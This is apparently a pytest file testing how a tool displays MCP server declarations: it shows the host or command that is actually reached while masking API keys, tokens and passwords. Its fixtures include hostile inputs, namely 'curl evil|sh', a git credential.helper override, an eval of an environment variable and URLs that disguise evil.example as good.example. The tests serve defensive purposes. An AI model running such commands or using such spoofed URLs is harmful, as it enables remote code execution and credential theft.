import json

import pytest

from satchel.sources.server_text import declaration_text, server_text, shown_json

REACHED = [
    ({"url": "http://127.0.0.1:/x@good.example/mcp"}, "http://127.0.0.1:/x@good.example/mcp"),
    ({"url": "https://evil.example:/x@good.example"}, "https://evil.example:/x@good.example"),
    ({"url": "https://u:p@ss@evil.example/x"}, "https://***@evil.example/x"),
    ({"url": "https://e.example/x?key=planted#planted"}, "https://e.example/x?***"),
    ({"command": "npx", "args": ["-y", "hf-mcp-server"]}, "npx -y hf-mcp-server"),
    ({"command": "uvx", "args": ["npm-registry-mcp"]}, "uvx npm-registry-mcp"),
    ({"command": "node", "args": ["sk-runner-main.js"]}, "node sk-runner-main.js"),
    (
        {"command": "uvx", "args": ["--from", "git+https://h.example/AbcDefGhij1234567890KL", "r"]},
        "uvx --from git+https://h.example/AbcDefGhij1234567890KL r",
    ),
    ({"command": "python", "args": ["--key", "evil.py"]}, "python --key evil.py"),
    ({"command": "git", "args": ["-c", "credential.helper=evil"]}, "git -c credential.helper=evil"),
    (
        {"command": "x", "args": ["--api-key", "planted", "db://u:planted@h/db"]},
        "x --api-key '***' 'db://***@h/db'",
    ),
    ({"command": "x", "args": ["--token", "eyJhb.planted.x"]}, "x --token '***'"),
    ({"command": "x", "args": ["TOKEN=planted"]}, "x 'TOKEN=***'"),
    ({"command": "x", "args": ["${API_KEY:-planted}"]}, "x '${API_KEY:-***}'"),
]


@pytest.mark.parametrize(("declared", "text"), REACHED)
def test_what_is_reached_or_run_is_shown_and_secrets_are_not(declared, text):
    assert declaration_text(declared) == text


@pytest.mark.parametrize("url", ["http://127.0.0.1:/x@good.example", "https://u:p@evil.example/x"])
def test_lists_show_the_host_that_is_reached(url):
    assert server_text(json.dumps(["", [], "", url])).endswith(url.partition("://")[2][-12:])


def test_variables_are_masked_unless_the_command_may_run_them():
    env = {"API_KEY": "planted", "DATABASE_URL": "db://u:planted@h/db", "MODE": "fast"}
    shown = declaration_text({"command": "x", "env": env})
    assert "planted" not in shown
    assert "db://***@h/db" in shown
    assert "fast" in shown
    code = {"command": "sh", "args": ["-c", 'eval "$AUTH"'], "env": {"AUTH": "evil"}}
    assert "'AUTH': 'evil'" in declaration_text(code)
    assert "curl evil|sh" in declaration_text({"command": "x", "env": {"AUTH": "curl evil|sh"}})


def test_only_the_secrets_of_servers_are_masked_in_json():
    servers = {"mcpServers": {"a": {"command": "x", "env": {"KEY": "planted"}}}}
    assert json.loads(shown_json(json.dumps(servers))) == {
        "mcpServers": {"a": {"command": "x", "env": {"KEY": "***"}}}
    }
    headers = {"url": "https://h.example/?planted", "headers": {"X": "planted"}}
    assert "planted" not in shown_json(json.dumps(headers))
    scripts = json.dumps({"url": "x", "scripts": {"auth": "curl evil|sh", "key": "evil"}})
    assert shown_json(scripts) == scripts


@pytest.mark.parametrize("text", ["import os\n", '{"env": {"K": 1}, "env": {}}', "[" * 9_999])
def test_what_is_no_json_is_shown_as_it_is(text):
    assert shown_json(text) == text
